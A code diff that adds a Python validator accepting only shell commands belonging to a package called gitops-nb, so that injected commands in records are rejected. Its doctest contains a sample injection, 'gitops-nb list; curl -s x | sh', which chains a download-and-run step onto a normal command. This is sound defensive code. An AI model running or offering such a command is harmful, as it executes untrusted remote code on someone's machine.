@@ -5,10 +5,32 @@ They are checked once, where a journal is folded: behind that everybody may rely
 
 from __future__ import annotations
 
+import re
+import shlex
 from collections.abc import Callable, Iterator, Mapping
 from typing import Any
 
 from gitops_nb.model import Json, Status, parse_time
+
+_SHELL = re.compile(r"[`$\x00-\x1f\x7f]")
+
+
+def own_command(text: str) -> str:
+    """A command that a record proposes, if it is one of this package's alone; else "".
+
+    People copy it into a shell, and whoever may write a record chooses its words.
+
+    >>> own_command("gitops-nb approve last"), own_command("gitops-nb list; curl -s x | sh")
+    ('gitops-nb approve last', '')
+    """
+    if not text.startswith("gitops-nb ") or _SHELL.search(text):
+        return ""
+    try:
+        words = list(shlex.shlex(text, posix=True, punctuation_chars=True))
+    except ValueError:
+        return ""  # a quote that nothing closes
+    return "" if any(word and not word.strip("();<>|&") for word in words) else text
+
 
 Check = Callable[[Json], bool]
 
